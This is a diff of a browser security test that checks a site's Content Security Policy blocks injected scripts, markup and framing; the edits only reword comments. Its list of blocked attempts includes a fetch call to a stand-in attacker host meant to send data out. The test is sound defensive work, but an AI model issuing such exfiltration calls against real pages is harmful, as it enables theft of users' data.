@@ -57,7 +57,7 @@ bare("the policy blocks injected markup and scripts", async ({ page, baseURL }) 
     "trustedTypes.createPolicy('theirs', {})",
     `fetch('${attacker}/take')`,
   ]) {
-    // In a later task, since the debugger may do things that the page may not.
+    // Runs in a later task, since the debugger may do things that the page may not.
     const later = page.evaluate(`new Promise((go) => setTimeout(go)).then(() => ${attempt})`);
     await expect(later, attempt).rejects.toThrow();
   }
@@ -69,7 +69,7 @@ bare("the policy blocks injected markup and scripts", async ({ page, baseURL }) 
       [
         ...Object.keys(injections),
         "connect-src",
-        // Both `eval` and `innerHTML` violate this before any other directive.
+        // `eval` and `innerHTML` violate this before any other directive.
         "require-trusted-types-for",
         "trusted-types",
       ].toSorted(),
@@ -77,7 +77,7 @@ bare("the policy blocks injected markup and scripts", async ({ page, baseURL }) 
   expect(await page.title()).not.toBe("taken");
   expect(reached, "requests to the attacker").toBe(0);
 
-  // No other site may frame the site's pages.
+  // The policy lets no other site frame the site's pages.
   await page.route(`${attacker}/frame`, (route) =>
     route.fulfill({
       contentType: "text/html",
